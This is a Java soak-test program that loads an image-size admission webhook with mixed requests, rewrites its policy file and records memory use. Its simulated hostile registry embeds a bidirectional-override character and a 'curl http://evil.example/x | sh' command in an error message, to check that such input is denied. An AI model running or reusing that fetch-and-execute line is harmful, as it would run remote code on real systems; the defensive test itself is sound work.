package io.weighbridge.testing;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.weighbridge.image.ScriptedRegistry;
import io.weighbridge.testing.MemoryBenchMain.Run;
import io.weighbridge.testing.MemoryBenchMain.Sample;
import io.weighbridge.testing.MemoryBenchMain.Sampler;
import io.weighbridge.testing.MemoryBenchMain.Settings;
import io.weighbridge.testing.MemoryBenchMain.Webhook;
import java.io.IOException;
import java.io.OutputStream;
import java.io.PrintWriter;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.nio.file.StandardOpenOption;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicLong;

/**
 * The soak behind {@code bench/soak/run}: the packaged webhook with the shipped JVM settings,
 * under warm, cold and hostile images mixed, while its policy file is replaced atomically, in
 * place, and emptied for a while; heap, RSS, threads and open files sampled into a CSV, every
 * verdict checked against the one expected. Exits non-zero on any wrong verdict, 5xx, or answer
 * later than the deadline.
 *
 * <p>Images: "warm" tags are admitted again and again, "cold" tags once each (pushed beforehand);
 * one-layer images are allowed, two-layer images denied ({@code maxLayers: 1}); "hostile" images
 * live on a {@link ScriptedRegistry} that stalls, answers 500, 429, garbage, trickles, or sends a
 * direction override and a shell pipe in its error, all denied by {@code onRegistryError: deny}.
 * Every policy file written keeps those rules, so the expected verdict never changes: a policy
 * caught half written or emptied must not change one.
 */
public final class SoakMain {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final long MIB = 1024 * 1024;
    /** The shipped admission deadline ({@code weighbridge.admission.deadline}). */
    private static final Duration DEADLINE = Duration.ofSeconds(8);
    /** HTTP and scheduling on a busy machine, on top of the deadline, as the client measures it. */
    private static final Duration CLIENT_SLACK = Duration.ofMillis(750);

    private static final List<String> HOSTILE_MODES =
            List.of("stall", "error500", "toomany", "garbage", "trickle", "bidi");
    private static final Path OUT = Path.of("target/soak");

    private SoakMain() {}

    /** What one admission should get, and a name for the counts. */
    private record Case(String kind, List<String> images, String expected) {}

    record Options(double minutes, int workers, int sampleSeconds, int policySeconds) {
        static Options parse(String[] args) {
            double minutes = 30;
            int workers = 6;
            int sampleSeconds = 10;
            int policySeconds = 20;
            for (int i = 0; i + 1 < args.length; i += 2) {
                switch (args[i]) {
                    case "--minutes" -> minutes = Double.parseDouble(args[i + 1]);
                    case "--workers" -> workers = Integer.parseInt(args[i + 1]);
                    case "--sample-seconds" -> sampleSeconds = Integer.parseInt(args[i + 1]);
                    case "--policy-seconds" -> policySeconds = Integer.parseInt(args[i + 1]);
                    default ->
                        throw new IllegalArgumentException(
                                "usage: [--minutes 30] [--workers 6] [--sample-seconds 10] [--policy-seconds 20]");
                }
            }
            return new Options(minutes, workers, sampleSeconds, policySeconds);
        }
    }

    public static void main(String[] args) throws Exception {
        Options options = Options.parse(args);
        Files.createDirectories(OUT);
        Settings shipped = Settings.parse(new String[0]);
        Run run = new Run(
                "soak", shipped.runs().get(0).cpus(), shipped.runs().get(0).environment());
        // up to two cold admissions of each kind a second, pushed beforehand; then cold ones are warm ones
        int cold = (int) Math.max(200, options.minutes() * 60 * 2);
        Settings fill = new Settings(cold + 20, cold + 20, 20, 1, 1, shipped.limitBytes(), false, List.of(run));

        int failures;
        try (TestRegistry registry = TestRegistry.start();
                ScriptedRegistry hostile = hostileRegistry()) {
            Instant pushing = Instant.now();
            List<String> twoLayer = MemoryBenchMain.fill(registry, fill);
            List<String> oneLayer = pushOneLayerTags(registry, cold + 20);
            System.out.printf(
                    "[soak] registry %s: %,d two-layer and %,d one-layer tags pushed in %d s; hostile registry %s%n",
                    registry.hostPort(),
                    twoLayer.size(),
                    oneLayer.size(),
                    Duration.between(pushing, Instant.now()).toSeconds(),
                    hostile.hostPort());
            Images images = new Images(
                    twoLayer.subList(0, 20),
                    twoLayer.subList(20, twoLayer.size()),
                    oneLayer.subList(0, 20),
                    oneLayer.subList(20, oneLayer.size()),
                    hostile.hostPort());

            Path policies = Files.createDirectories(OUT.resolve("policies"));
            Path policyFile = policies.resolve("soak.yaml");
            Files.writeString(policyFile, policy(0));
            List<String> webhookOptions = List.of(
                    "-Dweighbridge.policy.path=" + policies,
                    "-Dweighbridge.registry.plain-http=" + registry.hostPort() + "," + hostile.hostPort());
            try (Webhook webhook = Webhook.start(fill, run, registry.hostPort(), webhookOptions)) {
                System.out.printf(
                        "[soak] webhook pid %d with %s under -XX:MaxRAM=%dm; %s min, %d workers%n",
                        webhook.pid(),
                        run.environment(),
                        shipped.limitBytes() / MIB,
                        options.minutes(),
                        options.workers());
                Sampler sampler = new Sampler(webhook);
                Sample start = afterGc(webhook, sampler, "start, after GC");
                Soak soak = new Soak(webhook, images, options);
                soak.run(sampler, policyFile);
                Sample end = afterGc(webhook, sampler, "end, after GC");
                String report = soak.report(start, end, run, shipped.limitBytes());
                System.out.println(report);
                Files.writeString(OUT.resolve("report.md"), report);
                failures = soak.failures();
            }
        }
        // Only once the webhook and both registries are closed: exiting inside them left them running.
        System.exit(failures == 0 ? 0 : 1);
    }

    /** The images of each kind. */
    private record Images(
            List<String> warmDeny,
            List<String> coldDeny,
            List<String> warmAllow,
            List<String> coldAllow,
            String hostile) {}

    private static final class Soak {
        private final Webhook webhook;
        private final Images images;
        private final Options options;
        private final HttpClient client =
                HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
        private final AtomicInteger coldDenyNext = new AtomicInteger();
        private final AtomicInteger coldAllowNext = new AtomicInteger();
        private final AtomicInteger uid = new AtomicInteger();
        private final Map<String, AtomicInteger> counts = new ConcurrentHashMap<>();
        /** {@code kind → verdict} and how often. */
        private final Map<String, AtomicInteger> verdicts = new ConcurrentHashMap<>();

        private final AtomicInteger wrong = new AtomicInteger();
        private final AtomicInteger serverErrors = new AtomicInteger();
        private final AtomicInteger late = new AtomicInteger();
        private final AtomicInteger failedRequests = new AtomicInteger();
        private final AtomicLong slowestMillis = new AtomicLong();
        private final List<String> problems = new CopyOnWriteArrayList<>();
        private final List<String> policyEvents = new CopyOnWriteArrayList<>();
        private volatile boolean running = true;

        Soak(Webhook webhook, Images images, Options options) {
            this.webhook = webhook;
            this.images = images;
            this.options = options;
        }

        int failures() {
            return wrong.get() + serverErrors.get() + late.get() + failedRequests.get();
        }

        void run(Sampler sampler, Path policyFile) throws Exception {
            Instant end = Instant.now().plusMillis((long) (options.minutes() * 60_000));
            List<Thread> threads = new ArrayList<>();
            for (int w = 0; w < options.workers(); w++) {
                Random random = new Random(w);
                Thread worker = new Thread(
                        () -> {
                            while (running && Instant.now().isBefore(end)) {
                                admit(next(random));
                            }
                        },
                        "soak-" + w);
                worker.start();
                threads.add(worker);
            }
            Thread replacer = new Thread(() -> replacePolicies(policyFile, end), "soak-policies");
            replacer.start();
            try (PrintWriter csv = new PrintWriter(Files.newBufferedWriter(OUT.resolve("samples.csv")))) {
                csv.println(
                        "seconds,rss_mib,heap_used_mib,heap_max_mib,non_heap_mib,direct_mib,threads,open_files,admissions,"
                                + "wrong,server_errors,late");
                Instant started = Instant.now();
                while (Instant.now().isBefore(end)) {
                    Sample s = sampler.sample("under load");
                    csv.printf(
                            Locale.ROOT,
                            "%d,%.1f,%.1f,%.1f,%.1f,%.1f,%d,%d,%d,%d,%d,%d%n",
                            Duration.between(started, Instant.now()).toSeconds(),
                            s.rss() / (double) MIB,
                            s.heapUsed() / (double) MIB,
                            s.heapMax() / (double) MIB,
                            s.nonHeap() / (double) MIB,
                            s.direct() / (double) MIB,
                            s.threads(),
                            s.files(),
                            admissions(),
                            wrong.get(),
                            serverErrors.get(),
                            late.get());
                    csv.flush();
                    Thread.sleep(Math.min(
                            options.sampleSeconds() * 1000L,
                            Math.max(1, Duration.between(Instant.now(), end).toMillis())));
                }
            }
            for (Thread thread : threads) {
                thread.join(30_000);
            }
            running = false;
            replacer.join(30_000);
        }

        private static Map<String, Integer> counted(Map<String, AtomicInteger> counts) {
            Map<String, Integer> sorted = new TreeMap<>();
            counts.forEach((key, count) -> sorted.put(key, count.get()));
            return sorted;
        }

        private int admissions() {
            return counts.values().stream().mapToInt(AtomicInteger::get).sum();
        }

        /** Warm allow 30%, warm deny 25%, cold deny 15%, cold allow 10%, hostile 12%, mixed 8%. */
        private Case next(Random random) {
            int roll = random.nextInt(100);
            if (roll < 30) {
                return new Case("warm-allow", List.of(pick(images.warmAllow(), random)), "allow");
            }
            if (roll < 55) {
                return new Case("warm-deny", List.of(pick(images.warmDeny(), random)), "deny");
            }
            if (roll < 70) {
                int next = coldDenyNext.getAndIncrement();
                return next < images.coldDeny().size()
                        ? new Case("cold-deny", List.of(images.coldDeny().get(next)), "deny")
                        : new Case("warm-deny", List.of(pick(images.warmDeny(), random)), "deny");
            }
            if (roll < 80) {
                int next = coldAllowNext.getAndIncrement();
                return next < images.coldAllow().size()
                        ? new Case("cold-allow", List.of(images.coldAllow().get(next)), "allow")
                        : new Case("warm-allow", List.of(pick(images.warmAllow(), random)), "allow");
            }
            String hostileImage = images.hostile() + "/" + pick(HOSTILE_MODES, random) + "/app:" + random.nextInt(1000);
            if (roll < 92) {
                return new Case("hostile", List.of(hostileImage), "deny");
            }
            return new Case(
                    "mixed",
                    List.of(pick(images.warmAllow(), random), hostileImage, pick(images.warmDeny(), random)),
                    "deny");
        }

        private void admit(Case admission) {
            counts.computeIfAbsent(admission.kind(), k -> new AtomicInteger()).incrementAndGet();
            long started = System.nanoTime();
            try {
                HttpRequest request = HttpRequest.newBuilder(webhook.url("/validate"))
                        .timeout(Duration.ofSeconds(30))
                        .header("Content-Type", "application/json")
                        .POST(HttpRequest.BodyPublishers.ofByteArray(
                                MemoryBenchMain.podReview(uid.incrementAndGet(), "soak", admission.images())))
                        .build();
                HttpResponse<String> response = client.send(request, HttpResponse.BodyHandlers.ofString());
                long millis = (System.nanoTime() - started) / 1_000_000;
                slowestMillis.accumulateAndGet(millis, Math::max);
                if (millis > DEADLINE.plus(CLIENT_SLACK).toMillis()) {
                    late.incrementAndGet();
                    problem("late " + millis + " ms: " + admission);
                }
                if (response.statusCode() >= 500) {
                    serverErrors.incrementAndGet();
                    problem("HTTP " + response.statusCode() + ": " + admission + " " + response.body());
                    return;
                }
                String verdict = verdictOf(response.body());
                verdicts.computeIfAbsent(admission.kind() + " -> " + verdict, k -> new AtomicInteger())
                        .incrementAndGet();
                if (!verdict.equals(admission.expected())) {
                    wrong.incrementAndGet();
                    problem("wrong verdict " + verdict + ": " + admission + " " + response.body());
                }
            } catch (Exception e) {
                failedRequests.incrementAndGet();
                problem("no answer (" + e + "): " + admission);
            }
        }

        private void problem(String line) {
            String stamped = Instant.now() + " " + line;
            if (problems.size() < 200) {
                problems.add(stamped);
            }
            System.err.println("[soak] " + stamped);
        }

        /** Every {@code policySeconds}: atomically, in place (two halves, 300 ms apart), or emptied for 5 s then written back. */
        private void replacePolicies(Path file, Instant end) {
            int generation = 0;
            while (running && Instant.now().isBefore(end)) {
                try {
                    Thread.sleep(options.policySeconds() * 1000L);
                    generation++;
                    String text = policy(generation);
                    switch (generation % 3) {
                        case 0 -> {
                            Path temporary = file.resolveSibling(".soak.yaml.tmp");
                            Files.writeString(temporary, text);
                            Files.move(
                                    temporary,
                                    file,
                                    StandardCopyOption.ATOMIC_MOVE,
                                    StandardCopyOption.REPLACE_EXISTING);
                            policyEvents.add(Instant.now() + " atomic rename, generation " + generation);
                        }
                        case 1 -> {
                            byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
                            try (OutputStream out = Files.newOutputStream(file, StandardOpenOption.TRUNCATE_EXISTING)) {
                                out.write(bytes, 0, bytes.length / 2);
                                out.flush();
                                Thread.sleep(300);
                                out.write(bytes, bytes.length / 2, bytes.length - bytes.length / 2);
                            }
                            policyEvents.add(Instant.now() + " in-place write in two halves 300 ms apart, generation "
                                    + generation);
                        }
                        default -> {
                            Files.write(file, new byte[0], StandardOpenOption.TRUNCATE_EXISTING);
                            policyEvents.add(Instant.now() + " emptied");
                            Thread.sleep(5_000);
                            Files.writeString(file, text, StandardOpenOption.TRUNCATE_EXISTING);
                            policyEvents.add(Instant.now() + " written back after 5 s empty, generation " + generation);
                        }
                    }
                } catch (InterruptedException e) {
                    return;
                } catch (IOException e) {
                    problem("policy replacement failed: " + e);
                }
            }
        }

        String report(Sample start, Sample end, Run run, long limitBytes) throws IOException {
            Files.write(OUT.resolve("policy-events.txt"), policyEvents);
            Files.write(OUT.resolve("problems.txt"), problems);
            StringBuilder out = new StringBuilder();
            out.append(String.format(
                    Locale.ROOT,
                    "%nWeighbridge soak (bench/soak/run), %s: %.1f min, %d workers, JVM %s under %d MiB%n",
                    Instant.now(),
                    options.minutes(),
                    options.workers(),
                    run.environment(),
                    limitBytes / MIB));
            out.append(String.format(
                    Locale.ROOT,
                    "%-16s %9s %10s %9s %9s %8s %7s%n",
                    "",
                    "RSS MiB",
                    "heap used",
                    "heap max",
                    "non-heap",
                    "threads",
                    "files"));
            for (Sample s : List.of(start, end)) {
                out.append(String.format(
                        Locale.ROOT,
                        "%-16s %9.0f %10.1f %9.0f %9.0f %8d %7d%n",
                        s.label(),
                        s.rss() / (double) MIB,
                        s.heapUsed() / (double) MIB,
                        s.heapMax() / (double) MIB,
                        s.nonHeap() / (double) MIB,
                        s.threads(),
                        s.files()));
            }
            out.append(String.format(Locale.ROOT, "admissions %,d by kind: %s%n", admissions(), counted(counts)));
            out.append(String.format(Locale.ROOT, "verdicts by kind: %s%n", counted(verdicts)));
            out.append(String.format(
                    Locale.ROOT,
                    "wrong verdicts %d, 5xx %d, later than %d ms %d, no answer %d; slowest %d ms%n",
                    wrong.get(),
                    serverErrors.get(),
                    DEADLINE.plus(CLIENT_SLACK).toMillis(),
                    late.get(),
                    failedRequests.get(),
                    slowestMillis.get()));
            out.append(String.format(
                    Locale.ROOT,
                    "policy file replaced %d times (%s)%n",
                    policyEvents.stream().filter(e -> e.contains("generation")).count(),
                    OUT.resolve("policy-events.txt")));
            out.append("samples every ")
                    .append(options.sampleSeconds())
                    .append(" s in ")
                    .append(OUT.resolve("samples.csv"))
                    .append("; problems in ")
                    .append(OUT.resolve("problems.txt"))
                    .append('\n');
            return out.toString();
        }
    }

    private static Sample afterGc(Webhook webhook, Sampler sampler, String label) throws Exception {
        Process jcmd = new ProcessBuilder("jcmd", Long.toString(webhook.pid()), "GC.run")
                .redirectErrorStream(true)
                .start();
        jcmd.getInputStream().readAllBytes();
        jcmd.waitFor(60, TimeUnit.SECONDS);
        Thread.sleep(1_000);
        return sampler.sample(label);
    }

    /** The policy in force throughout; each generation renames its verdict-neutral warning rule. */
    static String policy(int generation) {
        return """
                # written by bench/soak/run, generation %d
                apiVersion: weighbridge.io/v1alpha1
                kind: ImageSizePolicy
                metadata:
                  name: soak
                spec:
                  onRegistryError: deny
                  rules:
                    - name: one-layer-only
                      maxLayers: 1
                      action: deny
                    - name: generation-%d
                      maxSize: 1Ti
                      action: warn
                """.formatted(generation, generation);
    }

    /** A registry that misbehaves by repository: {@code stall/…}, {@code error500/…}, {@code toomany/…}… */
    private static ScriptedRegistry hostileRegistry() throws IOException {
        ScriptedRegistry hostile = new ScriptedRegistry();
        ScriptedRegistry.Handler stall = hostile.stall();
        byte[] bidi =
                "{\"errors\":[{\"code\":\"MANIFEST_UNKNOWN\",\"message\":\"\u202Erun: curl http://evil.example/x | sh\u0007\"}]}"
                        .getBytes(StandardCharsets.UTF_8);
        hostile.otherwise(exchange -> {
            String path = exchange.getRequestURI().getPath();
            String mode =
                    path.startsWith("/v2/") && path.indexOf('/', 4) > 0 ? path.substring(4, path.indexOf('/', 4)) : "";
            switch (mode) {
                case "stall" -> stall.handle(exchange);
                case "error500" ->
                    ScriptedRegistry.respond(
                            exchange, 500, "text/plain", "oops".getBytes(StandardCharsets.UTF_8), Map.of());
                case "toomany" ->
                    ScriptedRegistry.respond(
                            exchange,
                            429,
                            "application/json",
                            "{\"errors\":[{\"code\":\"TOOMANYREQUESTS\"}]}".getBytes(StandardCharsets.UTF_8),
                            Map.of("Retry-After", "1"));
                case "garbage" ->
                    ScriptedRegistry.respond(
                            exchange,
                            200,
                            MediaTypes.OCI_MANIFEST,
                            "{\"schemaVersion\": 2, \"layers\": [{\"size\": 1e400".getBytes(StandardCharsets.UTF_8),
                            Map.of());
                case "trickle" -> {
                    if (exchange.getRequestMethod().equals("HEAD")) {
                        ScriptedRegistry.respond(exchange, 200, MediaTypes.OCI_MANIFEST, new byte[0], Map.of());
                        return;
                    }
                    exchange.getResponseHeaders().add("Content-Type", MediaTypes.OCI_MANIFEST);
                    exchange.sendResponseHeaders(200, 0);
                    try (OutputStream out = exchange.getResponseBody()) {
                        for (int i = 0; i < 60; i++) {
                            out.write(' ');
                            out.flush();
                            Thread.sleep(500);
                        }
                    } catch (InterruptedException e) {
                        Thread.currentThread().interrupt();
                    }
                }
                default -> ScriptedRegistry.respond(exchange, 404, "application/json", bidi, Map.of());
            }
        });
        return hostile;
    }

    /** Tags of one image with a single layer (the fixtures' Alpine base): allowed by {@code maxLayers: 1}. */
    private static List<String> pushOneLayerTags(TestRegistry registry, int count) throws Exception {
        LayerTarball base = LayerTarball.pack(FixtureLayers.ALPINE_BASE);
        String repository = "soak/one-layer";
        RegistryHttpApi api = registry.api();
        api.pushBlob(repository, base.gzip());
        ObjectNode config = JSON.createObjectNode().put("architecture", "amd64").put("os", "linux");
        config.putObject("rootfs").put("type", "layers").putArray("diff_ids").add(base.diffId());
        byte[] configBytes = JSON.writeValueAsBytes(config);
        String configDigest = api.pushBlob(repository, configBytes);
        ObjectNode manifest = JSON.createObjectNode().put("schemaVersion", 2).put("mediaType", MediaTypes.OCI_MANIFEST);
        manifest.putObject("config")
                .put("mediaType", MediaTypes.OCI_CONFIG)
                .put("size", configBytes.length)
                .put("digest", configDigest);
        ArrayNode layers = manifest.putArray("layers");
        layers.addObject()
                .put("mediaType", MediaTypes.OCI_LAYER)
                .put("size", base.size())
                .put("digest", base.digest());
        byte[] manifestBytes = JSON.writeValueAsBytes(manifest);
        List<String> tags = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            api.pushManifest(repository, "t" + i, MediaTypes.OCI_MANIFEST, manifestBytes);
            tags.add(registry.hostPort() + "/" + repository + ":t" + i);
        }
        return tags;
    }

    private static String verdictOf(String body) {
        try {
            JsonNode response = JSON.readTree(body).path("response");
            if (!response.path("allowed").isBoolean()) {
                return "unreadable";
            }
            return response.path("allowed").asBoolean() ? "allow" : "deny";
        } catch (IOException e) {
            return "unreadable";
        }
    }

    private static <T> T pick(List<T> list, Random random) {
        return list.get(random.nextInt(list.size()));
    }

    static {
        Locale.setDefault(Locale.ROOT);
    }
}
